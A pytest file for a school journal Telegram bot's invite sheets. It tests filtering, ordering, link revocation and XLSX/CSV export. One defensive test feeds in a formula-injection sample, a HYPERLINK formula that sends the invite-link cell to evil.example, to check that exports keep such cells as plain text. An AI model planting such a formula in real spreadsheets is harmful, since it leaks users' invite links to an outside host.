"""Invite sheets: who is on them, in what order, and that the links work once."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from zoneinfo import ZoneInfo

from openpyxl import load_workbook
from sqlalchemy.ext.asyncio import AsyncSession

from screens.invite_sheet import to_csv, to_xlsx
from services.people import invite_sheet, invites
from storage.models import Role, TelegramAccount, utcnow
from tests.factories import College

TZ = ZoneInfo("Asia/Sakhalin")


async def _rows(
    session: AsyncSession, college: College, **filters: object
) -> list[invite_sheet.InviteRow]:
    return await invite_sheet.build_rows(
        session,
        college.org.id,
        bot_username="journal_test_bot",
        now=utcnow(),
        ttl=timedelta(days=30),
        tz=TZ,
        **filters,  # type: ignore[arg-type]
    )


async def test_group_sheet_has_its_students_and_parents_only(
    session: AsyncSession, college: College
) -> None:
    rows = await _rows(session, college, group_names=[college.group.name])
    names = {r.full_name for r in rows}
    for student in college.students:
        assert student.person.full_name in names
        assert college.parents[student.id].full_name in names
    for student in college.other_students:
        assert student.person.full_name not in names
    assert college.expelled.person.full_name not in names
    assert all(r.link.startswith("https://t.me/journal_test_bot?start=") for r in rows)


async def test_sheet_is_in_alphabetical_order_with_yo(
    session: AsyncSession, college: College
) -> None:
    rows = await _rows(session, college, roles=[Role.STUDENT])
    surnames = [r.full_name.split()[0].replace("Ё", "Е") for r in rows]
    assert surnames == sorted(surnames)


async def test_unlinked_only_skips_people_using_the_bot(
    session: AsyncSession, college: College
) -> None:
    session.add(TelegramAccount(telegram_user_id=1, chat_id=1, person_id=college.teacher.id))
    await session.flush()
    rows = await _rows(session, college, roles=[Role.TEACHER], unlinked_only=True)
    assert college.teacher.full_name not in {r.full_name for r in rows}
    assert college.other_teacher.full_name in {r.full_name for r in rows}


async def test_new_sheet_revokes_old_links_and_xlsx_opens(
    session: AsyncSession, college: College
) -> None:
    first = await _rows(session, college, roles=[Role.TEACHER])
    second = await _rows(session, college, roles=[Role.TEACHER])
    old_code = first[0].link.split("start=")[1]
    new_code = second[0].link.split("start=")[1]
    common = {"telegram_user_id": 77, "chat_id": 77, "username": "", "language": None}
    refused = await invites.redeem(session, old_code, now=utcnow(), attempts_per_hour=5, **common)
    assert refused.outcome is invites.Outcome.UNKNOWN
    linked = await invites.redeem(session, new_code, now=utcnow(), attempts_per_hour=5, **common)
    assert linked.outcome is invites.Outcome.LINKED
    book = load_workbook(io.BytesIO(to_xlsx(second)))
    sheet = book.active
    assert sheet.max_row == len(second) + 1
    assert sheet.cell(row=2, column=5).value == second[0].link


def test_cells_that_would_be_formulas_are_kept_as_text_in_both_formats() -> None:
    hostile = ['=HYPERLINK("https://evil.example/?"&E2,"x")', "+7 999", "-1", "@SUM(A1)"]
    rows = [
        invite_sheet.InviteRow(
            external_id="s1",
            full_name=name,
            roles=(Role.PARENT,),
            groups="@g",
            link="https://t.me/journal_test_bot?start=secret",
            expires="2026-12-31",
        )
        for name in hostile
    ]

    sheet = load_workbook(io.BytesIO(to_xlsx(rows))).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert [sheet.cell(row=n, column=2).value for n in range(2, 6)] == [f"'{h}" for h in hostile]

    text = to_csv(rows).decode("utf-8-sig")
    records = list(csv.reader(io.StringIO(text)))[1:]
    assert [r[1] for r in records] == [f"'{h}" for h in hostile]
    assert all(r[3] == "'@g" for r in records)
    assert all(r[4].startswith("https://") for r in records)  # a plain value stays as it is
